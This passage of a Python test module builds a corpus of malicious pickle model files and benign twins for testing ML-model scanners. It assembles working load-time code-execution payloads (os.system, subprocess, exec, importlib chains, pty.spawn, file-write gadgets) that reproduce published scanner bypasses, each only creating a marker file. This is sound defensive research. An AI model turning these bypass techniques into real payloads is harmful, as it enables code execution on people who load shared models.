"""Adversarial corpus: malicious model files and their benign look-alikes.

Every malicious sample is a *real* exploit: when the victim loads it the way named by
``Sample.loader`` (see ``LOADERS``), its payload creates the marker file handed to
``Sample.build`` -- and does nothing else.  ``test_samples_execute.py`` proves that for
each sample in a subprocess.  Every benign sample is made by the real library where the
library exists, loads cleanly and creates nothing.

The techniques come from published scanner bypasses (picklescan, modelscan, fickling,
ModelAudit advisories, JFrog / Sonatype / ReversingLabs write-ups, the 2025 papers "The
Art of Hide and Seek" and "PickleBall"); ``docs/research/pickle-bypasses.md`` maps each
family to its references.  The pickles are assembled here from opcodes, not copied.

This module is imported by the test-suite and by benchmarks: it must not import pytest,
and it imports heavy libraries (torch, numpy, joblib, pandas, sklearn, py7zr) only inside
the builders that need them.
"""

from __future__ import annotations

import io
import marshal
import os
import pickle
import pickletools
import shlex
import shutil
import struct
import tarfile
import tempfile
import warnings
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

__all__ = ["ALL", "BENIGN", "LOADERS", "MALICIOUS", "Sample", "write_corpus"]


@dataclass(frozen=True)
class Sample:
    name: str  # unique, file-name safe
    family: str  # technique family
    malicious: bool
    suffix: str  # file-name ending to write it with
    loader: str  # key of LOADERS: how a victim loads it
    build: Callable[[Path], bytes]  # marker path -> file bytes
    twin: str | None  # malicious: name of its benign look-alike
    source: str  # where the technique was published
    note: str = ""  # situation / caveats (e.g. what must happen for the payload to run)
    expect_error: bool = False  # loading raises (after the payload ran, or benign-broken)


# ---------------------------------------------------------------------------------------
# How a victim loads a file.  Each value is a ``str.format`` template with one field,
# ``{path!r}``; the result is a self-contained Python snippet.
# ---------------------------------------------------------------------------------------

_ARCHIVE_LOADER = """\
import bz2, gzip, io, lzma, os, pickle, tarfile, tempfile, zipfile
def _open(data, depth=0):
    if depth > 8:
        raise ValueError('archive nested too deep')
    if data[:6] == b'7z\\xbc\\xaf\\x27\\x1c':
        import py7zr
        with tempfile.TemporaryDirectory() as d:
            with py7zr.SevenZipFile(io.BytesIO(data)) as a:
                a.extractall(path=d)
            for root, _, files in sorted(os.walk(d)):
                for fn in sorted(files):
                    with open(os.path.join(root, fn), 'rb') as f:
                        return _open(f.read(), depth + 1)
    if data[:2] == b'\\x1f\\x8b':
        return _open(gzip.decompress(data), depth + 1)
    if data[:3] == b'BZh':
        return _open(bz2.decompress(data), depth + 1)
    if data[:6] == b'\\xfd7zXZ\\x00':
        return _open(lzma.decompress(data), depth + 1)
    if data[:4] == b'PK\\x03\\x04':
        z = zipfile.ZipFile(io.BytesIO(data))
        if any(n.endswith('/data.pkl') for n in z.namelist()):
            import torch
            return torch.load(io.BytesIO(data), map_location='cpu', weights_only=False)
        return _open(z.read(z.namelist()[0]), depth + 1)
    if len(data) > 262 and data[257:262] == b'ustar':
        with tarfile.open(fileobj=io.BytesIO(data)) as t:
            m = next(m for m in t.getmembers() if m.isfile())
            return _open(t.extractfile(m).read(), depth + 1)
    return pickle.loads(data)
with open({path!r}, 'rb') as f:
    _open(f.read())
"""

LOADERS: dict[str, str] = {
    # plain pickle.load of the file
    "pickle": "import pickle\nwith open({path!r}, 'rb') as f:\n    pickle.load(f)\n",
    # a record stream: pickle.load until the file ends (legacy torch files are 5 such)
    "pickle_stream": (
        "import pickle\n"
        "with open({path!r}, 'rb') as f:\n"
        "    size = f.seek(0, 2)\n"
        "    f.seek(0)\n"
        "    while f.tell() < size:\n"
        "        pickle.load(f)\n"
    ),
    # a process in which copyreg already maps extension code 0xC0DE (e.g. an earlier
    # pickle or plugin called copyreg.add_extension) -- see ext_code_preregistered
    "pickle_ext_registry": (
        "import copyreg, pickle\n"
        "copyreg.add_extension('posix', 'system', 0xC0DE)\n"
        "with open({path!r}, 'rb') as f:\n"
        "    pickle.load(f)\n"
    ),
    # torch.load as legacy code (and many libraries) call it
    "torch": ("import torch\ntorch.load({path!r}, map_location='cpu', weights_only=False)\n"),
    # the common 'safe first, then fall back' pattern (e.g. stanza before 1.12.1)
    "torch_fallback": (
        "import pickle, torch\n"
        "try:\n"
        "    torch.load({path!r}, map_location='cpu', weights_only=True)\n"
        "except (pickle.UnpicklingError, RuntimeError):\n"
        "    torch.load({path!r}, map_location='cpu', weights_only=False)\n"
    ),
    "numpy": (
        "import numpy\n"
        "r = numpy.load({path!r}, allow_pickle=True)\n"
        "if hasattr(r, 'files'):\n"
        "    for k in r.files:\n"
        "        r[k]\n"
    ),
    "joblib": "import joblib\njoblib.load({path!r})\n",
    # a model whose payload only runs when it is *used*: load, then predict
    "joblib_predict": "import joblib\njoblib.load({path!r}).predict([[0.0, 1.0]])\n",
    "pandas": "import pandas\npandas.read_pickle({path!r})\n",
    # a pipeline that unpacks 7z/zip/tar/gzip/bz2/xz wrappers, then loads what is inside
    "archive": _ARCHIVE_LOADER,
}


# ---------------------------------------------------------------------------------------
# A tiny pickle assembler.  Fragments are bytes; ``call`` builds ``f(*args)``.
# ---------------------------------------------------------------------------------------

MARK, STOP, POP, POP_MARK, DUP = b"(", b".", b"0", b"1", b"2"
TUPLE, EMPTY_TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"t", b")", b"\x85", b"\x86", b"\x87"
REDUCE, BUILD, INST, OBJ, NEWOBJ, NEWOBJ_EX = b"R", b"b", b"i", b"o", b"\x81", b"\x92"
EMPTY_DICT, SETITEM, SETITEMS, EMPTY_LIST, APPENDS = b"}", b"s", b"u", b"]", b"e"
NONE, NEWTRUE, NEWFALSE = b"N", b"\x88", b"\x89"
STACK_GLOBAL, MEMOIZE = b"\x93", b"\x94"


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def u(s: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE."""
    b = s.encode("utf-8")
    if len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def v0(s: str) -> bytes:
    """Protocol-0 UNICODE (raw-unicode-escape, newline-terminated), as pickle.py writes it."""
    esc = (
        s.replace("\\", "\\u005c")
        .replace("\0", "\\u0000")
        .replace("\n", "\\u000a")
        .replace("\r", "\\u000d")
        .replace("\x1a", "\\u001a")
    )
    return b"V" + esc.encode("raw-unicode-escape") + b"\n"


def s0(s: str) -> bytes:
    """Protocol-0 STRING: a quoted, backslash-escaped ASCII literal."""
    return b"S" + ascii(s).encode("ascii") + b"\n"


def bb(data: bytes) -> bytes:
    """SHORT_BINBYTES / BINBYTES."""
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    return b"B" + struct.pack("<I", len(data)) + data


def k(n: int) -> bytes:
    """BININT1 / BININT."""
    return b"K" + bytes([n]) if 0 <= n < 256 else b"J" + struct.pack("<i", n)


def g(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0 text form)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL with literal operands."""
    return u(module) + u(name) + STACK_GLOBAL


def binput(i: int) -> bytes:
    return b"q" + bytes([i])


def binget(i: int) -> bytes:
    return b"h" + bytes([i])


def long_binput(i: int) -> bytes:
    return b"r" + struct.pack("<I", i)


def long_binget(i: int) -> bytes:
    return b"j" + struct.pack("<I", i)


def tup(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def lst(*items: bytes) -> bytes:
    return EMPTY_LIST + MARK + b"".join(items) + APPENDS


def dct(*pairs: tuple[bytes, bytes]) -> bytes:
    return EMPTY_DICT + MARK + b"".join(key + val for key, val in pairs) + SETITEMS


def call(func: bytes, *args: bytes) -> bytes:
    return func + tup(*args) + REDUCE


def frame(body: bytes, declared: int | None = None) -> bytes:
    n = len(body) if declared is None else declared
    return b"\x95" + struct.pack("<Q", n) + body


def pk(*parts: bytes, protocol: int | None = None) -> bytes:
    head = proto(protocol) if protocol is not None else b""
    return head + b"".join(parts) + STOP


# -- payloads -----------------------------------------------------------------------------


def code(marker: Path) -> str:
    """Python source that creates the marker (and nothing else)."""
    return f"open({str(marker)!r}, 'a').close()"


def sh(marker: Path) -> str:
    """Shell command that creates the marker."""
    return f"touch {shlex.quote(str(marker))}"


def code_bytes(marker: Path) -> bytes:
    """A marshalled code object (current interpreter's bytecode) creating the marker."""
    return marshal.dumps(compile(code(marker), "<payload>", "exec"))


class _Reduce:
    """An object that pickles as ``func(*args)`` -- the classic ``__reduce__`` payload."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.func, self.args


def _os_system(marker: Path) -> _Reduce:
    return _Reduce(os.system, sh(marker))


def _exec_payload(marker: Path) -> _Reduce:
    return _Reduce(exec, code(marker))


def _system_pickle(marker: Path, protocol: int = 2) -> bytes:
    """The canonical payload: ``posix.system('touch marker')``."""
    if protocol == 0:
        return pk(call(g("posix", "system"), s0(sh(marker))))
    if protocol < 4:
        return pk(call(g("posix", "system"), u(sh(marker))), protocol=protocol)
    return pk(call(sg("posix", "system"), u(sh(marker))), protocol=protocol)


# -- benign material made by the real libraries ------------------------------------------


def _tmpdir() -> tempfile.TemporaryDirectory[str]:
    return tempfile.TemporaryDirectory(prefix="secmlops-samples-")


def _state_dict() -> Any:
    import torch

    gen = torch.Generator().manual_seed(0)
    return OrderedDict(
        [
            ("fc.weight", torch.randn(4, 3, generator=gen)),
            ("fc.bias", torch.zeros(4)),
            ("bn.num_batches_tracked", torch.tensor(7)),
        ]
    )


def _torch_save(obj: Any, filename: str = "archive.pt", legacy: bool = False) -> bytes:
    import torch

    with _tmpdir() as d:
        p = Path(d) / filename
        if legacy:
            torch.save(obj, p, _use_new_zipfile_serialization=False)
        else:
            torch.save(obj, p)
        return p.read_bytes()


def _estimator() -> Any:
    from sklearn.linear_model import LogisticRegression

    return LogisticRegression().fit([[0.0, 0.0], [1.0, 1.0], [0.0, 1.0], [1.0, 0.0]], [0, 1, 1, 0])


def _joblib_dump(obj: Any, compress: Any = 0) -> bytes:
    import joblib

    with _tmpdir() as d:
        p = Path(d) / "model.joblib"
        joblib.dump(obj, p, compress=compress)
        return p.read_bytes()


def _dataframe() -> Any:
    import pandas

    return pandas.DataFrame({"feature": [0.5, 1.5, 2.5], "label": ["a", "b", "c"]})


def _pandas_pickle(obj: Any, suffix: str) -> bytes:
    import pandas

    with _tmpdir() as d:
        p = Path(d) / f"frame{suffix}"
        pandas.to_pickle(obj, p)
        return p.read_bytes()


def _np_save(arr: Any, version: tuple[int, int] | None = None) -> bytes:
    import numpy

    buf = io.BytesIO()
    if version is None:
        numpy.save(buf, arr, allow_pickle=True)
    else:
        numpy.lib.format.write_array(buf, arr, version=version, allow_pickle=True)
    return buf.getvalue()


def _np_savez(compressed: bool, **arrays: Any) -> bytes:
    import numpy

    buf = io.BytesIO()
    (numpy.savez_compressed if compressed else numpy.savez)(buf, **arrays)
    return buf.getvalue()


def _object_array(*items: Any) -> Any:
    import numpy

    arr = numpy.empty(len(items), dtype=object)
    for i, item in enumerate(items):
        arr[i] = item
    return arr


def _sevenzip(members: list[tuple[str, bytes]]) -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as a:
        for name, data in members:
            a.writestr(data, name)
    return buf.getvalue()


def _zip(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate member names are intended
        with zipfile.ZipFile(buf, "w", compression) as z:
            for name, data in members:
                z.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def _tar(members: list[tuple[str, bytes]], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as t:  # type: ignore[call-overload]
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 1_700_000_000
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _zip_members(data: bytes) -> list[tuple[str, bytes]]:
    z = zipfile.ZipFile(io.BytesIO(data))
    return [(n, z.read(n)) for n in z.namelist()]


def _torch_zip_with(data_pkl: bytes, filename: str = "archive.pt") -> bytes:
    """A real torch.save archive whose data.pkl is replaced (same members, same order)."""
    members = _zip_members(_torch_save(_state_dict(), filename))
    return _zip([(n, data_pkl if n.endswith("/data.pkl") else d) for n, d in members])


def _split_pickles(data: bytes, count: int) -> tuple[list[bytes], bytes]:
    """Split the first ``count`` consecutive pickles off ``data``; return them and the rest."""
    f = io.BytesIO(data)
    out = []
    for _ in range(count):
        start = f.tell()
        for _op in pickletools.genops(f):
            pass
        out.append(data[start : f.tell()])
    return out, data[f.tell() :]


def _legacy_torch_with(index: int, payload: bytes) -> bytes:
    """A legacy (non-zip) torch.save file whose pickle number ``index`` is replaced."""
    parts, rest = _split_pickles(_torch_save(_state_dict(), legacy=True), 5)
    parts[index] = payload
    return b"".join(parts) + rest


def _benign_legacy_tar() -> bytes:
    """The pre-1.0 torch tar layout (storages / tensors / pickle) with no tensors."""
    p = pickle.dumps
    return _tar(
        [
            ("storages", p(0, protocol=2) + p([], protocol=2)),
            ("tensors", p(0, protocol=2)),
            ("pickle", p(OrderedDict(epoch=3, lr=0.01), protocol=2)),
        ]
    )


# ---------------------------------------------------------------------------------------
# Corpus
# ---------------------------------------------------------------------------------------

MALICIOUS: list[Sample] = []
BENIGN: list[Sample] = []


def _m(
    name: str,
    family: str,
    loader: str,
    build: Callable[[Path], bytes],
    twin: str,
    source: str,
    suffix: str = ".pkl",
    note: str = "",
    expect_error: bool = False,
) -> None:
    MALICIOUS.append(
        Sample(name, family, True, suffix, loader, build, twin, source, note, expect_error)
    )


def _b(
    name: str,
    family: str,
    loader: str,
    build: Callable[[], bytes],
    source: str,
    suffix: str = ".pkl",
    note: str = "",
    expect_error: bool = False,
) -> None:
    def _build(_marker: Path, _f: Callable[[], bytes] = build) -> bytes:
        return _f()

    BENIGN.append(
        Sample(name, family, False, suffix, loader, _build, None, source, note, expect_error)
    )


# ===== benign look-alikes =================================================================

_OD = OrderedDict([("layer.weight", [0.25, -0.5, 1.0]), ("layer.bias", [0.0]), ("step", 3)])

for _p in (0, 2, 4, 5):
    _b(
        f"benign_ordereddict_proto{_p}",
        "plain-pickle",
        "pickle",
        lambda _p=_p: pickle.dumps(_OD, protocol=_p),
        f"pickle.dumps(OrderedDict, protocol={_p}); protocol 4/5 write FRAMEs",
    )
_b(
    "benign_memo_shared_refs_proto2",
    "plain-pickle",
    "pickle",
    lambda: pickle.dumps({"a": (shared := ["w", "b"]), "b": shared, "c": [shared] * 3}, 2),
    "shared references make pickle emit BINPUT/BINGET",
)
_b(
    "benign_memo_shared_refs_proto4",
    "plain-pickle",
    "pickle",
    lambda: pickle.dumps({"a": (shared := ["w", "b"]), "b": shared, "c": [shared] * 3}, 4),
    "shared references make pickle emit MEMOIZE/BINGET",
)
_b(
    "benign_simplenamespace_build",
    "plain-pickle",
    "pickle",
    lambda: pickle.dumps(__import__("types").SimpleNamespace(lr=0.1, epochs=3), protocol=4),
    "SimpleNamespace pickles as REDUCE + BUILD(state dict)",
)
_b(
    "benign_functools_partial",
    "plain-pickle",
    "pickle",
    lambda: pickle.dumps(__import__("functools").partial(int, base=2), protocol=4),
    "functools.partial of a harmless builtin (REDUCE + BUILD __setstate__)",
)
_b(
    "benign_sklearn_pickle",
    "plain-pickle",
    "pickle",
    lambda: pickle.dumps(_estimator(), protocol=5),
    "pickle.dumps of a fitted scikit-learn estimator",
)
_b(
    "benign_numpy_array_pickle",
    "plain-pickle",
    "pickle",
    lambda: pickle.dumps(__import__("numpy").arange(6, dtype="float32").reshape(2, 3), 4),
    "pickle.dumps of a numpy array (numpy._core.multiarray._reconstruct)",
)
_b(
    "benign_torch_tensor_pickle",
    "nested-deserialisation",
    "pickle",
    lambda: pickle.dumps(_state_dict(), protocol=2),
    "plain pickle of torch tensors: torch.storage._load_from_bytes(<torch.save bytes>)",
)
_b(
    "benign_int_quirks_proto0",
    "parser-differential",
    "pickle",
    lambda: b"(I0x10\nL0x20L\nI010\nI1_0\nl.",
    "same INT/LONG literal quirks as the malicious twins, no call at all",
)
_b(
    "benign_frame_quirks_proto4",
    "parser-differential",
    "pickle",
    lambda: (
        proto(4) + frame(u("layer") + MEMOIZE, declared=3) + frame(b"", 0) + k(3) + TUPLE2 + STOP
    ),
    "FRAME that lies about its length and an opcode crossing it; no call",
)
_b(
    "benign_multi_pickle_stream",
    "multi-pickle",
    "pickle_stream",
    lambda: pickle.dumps({"epoch": 1}, 2) + pickle.dumps(_OD, 4) + pickle.dumps([1, 2], 0),
    "three consecutive pickles in one file",
)
_b(
    "benign_broken_stream",
    "broken-stream",
    "pickle",
    lambda: pickle.dumps(_OD, protocol=2)[:-9],
    "a real pickle truncated before STOP: loading fails, nothing is called",
    expect_error=True,
)
_b(
    "benign_torch_zip",
    "container",
    "torch",
    lambda: _torch_save(_state_dict()),
    "torch.save(state_dict) (zip format)",
    suffix=".pt",
)
_b(
    "benign_torch_zip_custom_prefix",
    "container",
    "torch",
    lambda: _torch_save(_state_dict(), "weights.pt"),
    "torch.save names the zip folder after the file: weights/data.pkl",
    suffix=".pt",
)
_b(
    "benign_torch_legacy",
    "multi-pickle",
    "torch",
    lambda: _torch_save(_state_dict(), legacy=True),
    "torch.save(..., _use_new_zipfile_serialization=False): 5 consecutive pickles + data",
    suffix=".pt",
)
_b(
    "benign_torch_legacy_tar",
    "container",
    "torch",
    _benign_legacy_tar,
    "pre-1.0 torch tar layout (storages/tensors/pickle); torch can no longer write it",
    suffix=".tar",
)
_b(
    "benign_torch_zip_in_7z",
    "container",
    "archive",
    lambda: _sevenzip([("pytorch_model.bin", _torch_save(_state_dict()))]),
    "a real torch.save archive wrapped in 7z (py7zr)",
    suffix=".7z",
)
_b(
    "benign_nested_zip",
    "container",
    "archive",
    lambda: _zip([("inner.zip", _zip([("model.pkl", pickle.dumps(_OD, 4))]))]),
    "zip holding a zip holding a pickle",
    suffix=".zip",
)
_b(
    "benign_pickle_in_tar_gz",
    "container",
    "archive",
    lambda: _tar([("model.pkl", pickle.dumps(_OD, 4))], "w:gz"),
    "tar.gz holding a pickle",
    suffix=".tar.gz",
)
_b(
    "benign_npy_float",
    "numpy",
    "numpy",
    lambda: _np_save(__import__("numpy").linspace(0, 1, 12).reshape(3, 4)),
    "numpy.save of a float array",
    suffix=".npy",
)
_b(
    "benign_npy_object_array",
    "numpy",
    "numpy",
    lambda: _np_save(_object_array("cat", 3, (1.5, "dog"))),
    "numpy.save of an object array (pickled, builtins only)",
    suffix=".npy",
)
_b(
    "benign_npy_v3_header",
    "numpy",
    "numpy",
    lambda: _np_save(__import__("numpy").arange(5), version=(3, 0)),
    "numpy .npy format version 3.0 (utf-8 header)",
    suffix=".npy",
)
_b(
    "benign_npz",
    "numpy",
    "numpy",
    lambda: _np_savez(False, w=__import__("numpy").ones(3), names=_object_array("a", "b")),
    "numpy.savez with a float and an object member",
    suffix=".npz",
)
_b(
    "benign_npz_compressed",
    "numpy",
    "numpy",
    lambda: _np_savez(True, w=__import__("numpy").ones(3), names=_object_array("a", "b")),
    "numpy.savez_compressed with a float and an object member",
    suffix=".npz",
)
_JOBLIB_COMPRESS: dict[str, Any] = {
    "none": 0,
    "zlib": ("zlib", 3),
    "gzip": ("gzip", 3),
    "bz2": ("bz2", 3),
    "lzma": ("lzma", 3),
    "xz": ("xz", 3),
}
for _c, _arg in _JOBLIB_COMPRESS.items():
    _b(
        f"benign_joblib_{_c}",
        "joblib",
        "joblib",
        lambda _arg=_arg: _joblib_dump({"model": _estimator(), "classes": ["a", "b"]}, _arg),
        f"joblib.dump(fitted LogisticRegression, compress={_arg!r})",
        suffix=".joblib",
    )
_b(
    "benign_joblib_sklearn_predict",
    "deferred-execution",
    "joblib_predict",
    lambda: _joblib_dump(_estimator()),
    "joblib.dump of a fitted estimator, then used (predict)",
    suffix=".joblib",
)
_PANDAS_SUFFIXES = {"plain": ".pkl", "gz": ".pkl.gz", "bz2": ".pkl.bz2", "xz": ".pkl.xz"}
_PANDAS_SUFFIXES |= {"zip": ".pkl.zip", "tar": ".tar.gz"}
for _c, _sfx in _PANDAS_SUFFIXES.items():
    _b(
        f"benign_pandas_{_c}",
        "pandas",
        "pandas",
        lambda _sfx=_sfx: _pandas_pickle(_dataframe(), _sfx),
        f"DataFrame.to_pickle('frame{_sfx}') (compression inferred from the name)",
        suffix=_sfx,
    )
for _sfx, _loader in ((".txt", "pickle"), (".json", "joblib")):
    _b(
        f"benign_pickle_named{_sfx.replace('.', '_')}",
        "mislabeled",
        _loader,
        lambda: pickle.dumps(_OD, 4),
        f"a benign pickle under a misleading {_sfx} name",
        suffix=_sfx,
    )
_b(
    "benign_pickle_named_h5",
    "mislabeled",
    "torch",
    lambda: _torch_save(_state_dict(), legacy=True),
    "a legacy (pickle-stream) torch.save file under a misleading .h5 name",
    suffix=".h5",
)
_b(
    "benign_pickle_named_safetensors",
    "mislabeled",
    "pickle",
    lambda: pickle.dumps(_OD, 4),
    "a benign pickle under a misleading .safetensors name",
    suffix=".safetensors",
)
_b(
    "benign_pickle_named_npy",
    "mislabeled",
    "numpy",
    lambda: pickle.dumps(_OD, 4),
    "numpy.load falls back to pickle for non-.npy bytes",
    suffix=".npy",
)


# ===== stdlib gadgets: code execution, processes, files, network, imports ==================

_PS = "picklescan unsafe-globals advisories"
_m(
    "stdlib_os_system_proto0",
    "stdlib-gadget",
    "pickle",
    lambda m: _system_pickle(m, 0),
    "benign_ordereddict_proto0",
    "classic os.system payload (Slaviero 'Sour Pickles', BH US 2011)",
)
_m(
    "stdlib_posix_system_proto2",
    "stdlib-gadget",
    "pickle",
    lambda m: _system_pickle(m, 2),
    "benign_ordereddict_proto2",
    "module alias posix for os (picklescan denylist lists posix/nt)",
)
_m(
    "stdlib_subprocess_check_call",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(call(sg("subprocess", "check_call"), lst(u("touch"), u(str(m)))), protocol=4),
    "benign_ordereddict_proto4",
    "subprocess (picklescan/modelscan denylists)",
)
_m(
    "stdlib_subprocess_popen",
    "stdlib-gadget",
    "pickle",
    lambda m: pickle.dumps(_Reduce(__import__("subprocess").Popen, ["touch", str(m)]), 3),
    "benign_ordereddict_proto2",
    "subprocess.Popen (asynchronous: the child creates the marker)",
)
_m(
    "builtins_eval",
    "stdlib-gadget",
    "pickle",
    lambda m: pickle.dumps(_Reduce(eval, code(m)), protocol=4),
    "benign_ordereddict_proto4",
    "builtins.eval (every scanner's first denylist entry)",
)
_m(
    "builtins_exec",
    "stdlib-gadget",
    "pickle",
    lambda m: pickle.dumps(_exec_payload(m), protocol=3),
    "benign_ordereddict_proto2",
    "builtins.exec",
)
_m(
    "builtins_exec_of_compile",
    "computed-callable",
    "pickle",
    lambda m: pk(
        call(
            g("builtins", "exec"), call(g("builtins", "compile"), u(code(m)), u("<m>"), u("exec"))
        ),
        protocol=3,
    ),
    "benign_ordereddict_proto2",
    "Slaviero 'Sour Pickles': compile then exec, the argument is the result of a call",
)
_m(
    "builtins_getattr_import_chain",
    "computed-callable",
    "pickle",
    lambda m: pk(
        call(
            call(g("builtins", "getattr"), call(g("builtins", "__import__"), u("os")), u("system")),
            u(sh(m)),
        ),
        protocol=2,
    ),
    "benign_ordereddict_proto2",
    "picklescan test malicious12: getattr(__import__('os'), 'system') -- call the result",
)
_m(
    "importlib_import_module_chain",
    "import-resolution",
    "pickle",
    lambda m: pk(
        call(
            call(
                sg("builtins", "getattr"),
                call(sg("importlib", "import_module"), u("os")),
                u("system"),
            ),
            u(sh(m)),
        ),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "modelscan issue #331, picklescan PR #74 / issue #66 (importlib not denylisted)",
)
_m(
    "runpy_run_code",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(call(sg("runpy", "_run_code"), u(code(m)), EMPTY_DICT), protocol=4),
    "benign_ordereddict_proto4",
    "picklescan malicious14 (runpy._run_code)",
)
_m(
    "code_interactive_interpreter_runsource",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(
        call(
            sg("code", "InteractiveInterpreter.runsource"),
            call(sg("code", "InteractiveInterpreter")),
            u(code(m)),
        ),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "GHSA-cj3c-v495-4xqh (code.InteractiveInterpreter.runcode); runsource variant",
)
_m(
    "bdb_run",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(call(sg("bdb", "Bdb.run"), call(sg("bdb", "Bdb")), u(code(m))), protocol=4),
    "benign_ordereddict_proto4",
    "picklescan PR #29 (debugger modules bdb/pdb)",
)
_m(
    "timeit_setup",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(
        call(sg("timeit", "timeit"), u("pass"), u(code(m)), sg("time", "perf_counter"), k(1)),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "GHSA-v7x6-rv5q-mhwc (timeit.timeit)",
)
_m(
    "cprofile_run",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(call(sg("cProfile", "run"), u(code(m)), u(os.devnull)), protocol=4),
    "benign_ordereddict_proto4",
    "GHSA-49gj-c84q-6qm9 (cProfile.run)",
)
_m(
    "profile_runctx",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(
        call(
            sg("profile", "Profile.runctx"),
            call(sg("profile", "Profile")),
            u(code(m)),
            EMPTY_DICT,
            EMPTY_DICT,
        ),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "GHSA-6vqj-c2q5-j97w (profile.Profile.runctx)",
)
_m(
    "trace_runctx",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(
        call(
            sg("trace", "Trace.runctx"),
            call(sg("trace", "Trace"), k(0), k(0)),
            u(code(m)),
            EMPTY_DICT,
            EMPTY_DICT,
        ),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "GHSA-g344-hcph-8vgg (trace.Trace.runctx)",
)
_m(
    "pty_spawn",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(call(sg("pty", "spawn"), lst(u("touch"), u(str(m)))), protocol=4),
    "benign_ordereddict_proto4",
    "fickling PR #108, GHSA-vqmv-47xg-9wpr (pty.spawn)",
)
_m(
    "asyncio_unix_subprocess_transport",
    "submodule-import",
    "pickle",
    lambda m: pk(
        call(
            sg("asyncio.unix_events", "_UnixSubprocessTransport._start"),
            EMPTY_DICT,
            u(sh(m)),
            NEWTRUE,
            NONE,
            NONE,
            NONE,
            k(0),
        ),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "CVE-2025-10157 (JFrog): submodule of a denylisted package; GHSA-q77w-mwjj-7mqx",
    note="Popen runs, then the fake self raises AttributeError (payload first, error after).",
    expect_error=True,
)
_m(
    "webbrowser_generic_browser",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(
        call(
            sg("webbrowser", "GenericBrowser.open"),
            call(sg("webbrowser", "GenericBrowser"), lst(u("touch"), u("%s"))),
            u(str(m)),
        ),
        protocol=4,
    ),
    "benign_ordereddict_proto4",
    "picklescan denylist entry webbrowser (GenericBrowser spawns its argv)",
)
_m(
    "shutil_copyfile",
    "file-write",
    "pickle",
    lambda m: pk(call(sg("shutil", "copyfile"), u(os.devnull), u(str(m))), protocol=4),
    "benign_ordereddict_proto4",
    "picklescan PR #29 (shutil), google/saferpickle PR #2",
)
_m(
    "pathlib_touch",
    "file-write",
    "pickle",
    lambda m: pk(
        call(sg("pathlib", "Path.touch"), call(sg("pathlib", "Path"), u(str(m)))), protocol=4
    ),
    "benign_ordereddict_proto4",
    "pathlib writes (not on picklescan/modelscan denylists)",
)
_m(
    "io_fileio_write",
    "file-write",
    "pickle",
    lambda m: pk(call(g("_io", "FileIO"), u(str(m)), u("w")), protocol=2),
    "benign_ordereddict_proto2",
    "CVE-2025-10156-era list: _io.FileIO (C module alias of io)",
)
_m(
    "builtin_open_write_proto0",
    "file-write",
    "pickle",
    lambda m: pk(call(g("__builtin__", "open"), s0(str(m)), s0("w"))),
    "benign_ordereddict_proto0",
    "builtins.open via the protocol-0/2 name __builtin__",
)
_m(
    "logging_filehandler",
    "file-write",
    "pickle",
    lambda m: pk(call(sg("logging", "FileHandler"), u(str(m))), protocol=4),
    "benign_ordereddict_proto4",
    "CVE-2026-56304 (picklescan < 1.0.1: logging.FileHandler creates files)",
)
_m(
    "distutils_write_file",
    "file-write",
    "pickle",
    lambda m: pk(call(sg("distutils.file_util", "write_file"), u(str(m)), lst(u("x"))), protocol=4),
    "benign_ordereddict_proto4",
    "GHSA-m273-6v24-x4m4 (distutils.file_util.write_file)",
    note="distutils exists up to Python 3.11 (setuptools shims it afterwards).",
)
_m(
    "venv_create",
    "file-write",
    "pickle",
    lambda m: pk(call(sg("venv", "create"), u(str(m)), NEWFALSE, NEWFALSE, NEWTRUE), protocol=4),
    "benign_ordereddict_proto4",
    "picklescan malicious20 / GHSA-vqmv-47xg-9wpr (venv)",
    note="creates a directory at the marker path",
)
_m(
    "socket_unix_bind",
    "network",
    "pickle",
    lambda m: pk(
        call(sg("socket", "socket.bind"), call(sg("socket", "socket"), k(1)), u(str(m))), protocol=4
    ),
    "benign_ordereddict_proto4",
    "socket (picklescan malicious7); AF_UNIX bind creates the socket file",
)
_m(
    "urllib_urlretrieve",
    "network",
    "pickle",
    lambda m: pk(
        call(sg("urllib.request", "urlretrieve"), u("file://" + os.devnull), u(str(m))), protocol=4
    ),
    "benign_ordereddict_proto4",
    "urllib.request (picklescan test reduce_urllib_request_urlopen); file:// keeps it offline",
)
_m(
    "ctypes_libc_system",
    "stdlib-gadget",
    "pickle",
    lambda m: pk(
        call(
